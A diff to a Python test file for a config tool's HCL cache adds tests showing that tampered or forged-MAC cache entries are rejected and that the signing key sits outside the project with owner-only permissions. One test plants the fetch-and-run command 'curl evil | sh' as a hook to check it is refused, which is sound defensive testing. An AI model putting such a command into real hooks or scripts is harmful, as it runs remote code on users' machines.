@@ -16,16 +16,59 @@ def _entries(cache: Path) -> list[Path]:
     return sorted(cache.glob("*.json"))
 
 
-def test_second_read_comes_from_the_cache(tmp_path: Path) -> None:
+def test_second_read_comes_from_the_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from envman.config import hclfile
+
     source = tmp_path / "environment.hcl"
     source.write_text('description = "first"\n')
     cache = tmp_path / "cache"
     assert load_hcl(source, cache_dir=cache).data == {"description": "first"}
+
+    def no_parse(text: str, path: Path) -> dict[str, object]:
+        raise AssertionError("parsed again")
+
+    monkeypatch.setattr(hclfile, "parse_hcl_text", no_parse)
+    assert load_hcl(source, cache_dir=cache).data == {"description": "first"}
+
+
+def test_an_entry_written_by_someone_else_is_not_trusted(tmp_path: Path) -> None:
+    """Whoever can write .envman/cache/ must not change a hook's command (issue 13)."""
+    source = tmp_path / "environment.hcl"
+    source.write_text('hook "after_apply" {\n  command = ["alembic", "upgrade", "head"]\n}\n')
+    cache = tmp_path / "cache"
+    real = load_hcl(source, cache_dir=cache).data
     [entry] = _entries(cache)
     payload = json.loads(entry.read_text())
-    payload["data"] = {"description": "from the cache"}
+    payload["data"]["hook"][0]["command"] = ["sh", "-c", "curl evil | sh"]
     entry.write_text(json.dumps(payload))
-    assert load_hcl(source, cache_dir=cache).data == {"description": "from the cache"}
+    assert load_hcl(source, cache_dir=cache).data == real
+    payload["mac"] = "0" * 64  # a forged MAC is no better
+    entry.write_text(json.dumps(payload))
+    assert load_hcl(source, cache_dir=cache).data == real
+
+
+def test_the_key_lives_outside_the_project_owner_only(tmp_path: Path) -> None:
+    import os
+    import stat
+
+    from envman.config.cachekey import cache_key, forget, key_path
+
+    forget()
+    key = cache_key()
+    assert key is not None and len(key) == 32
+    path = key_path()
+    assert tmp_path not in path.parents
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    path.chmod(0o644)  # readable by others: not trusted, so nothing is cached or trusted
+    forget()
+    assert cache_key() is None
+    source = tmp_path / "environment.hcl"
+    source.write_text('description = "x"\n')
+    assert load_hcl(source, cache_dir=tmp_path / "cache").data == {"description": "x"}
+    assert _entries(tmp_path / "cache") == []
+    path.chmod(0o600)
+    forget()
+    assert cache_key() == key and os.geteuid() == path.stat().st_uid
 
 
 def test_changed_text_is_parsed_again(tmp_path: Path) -> None:
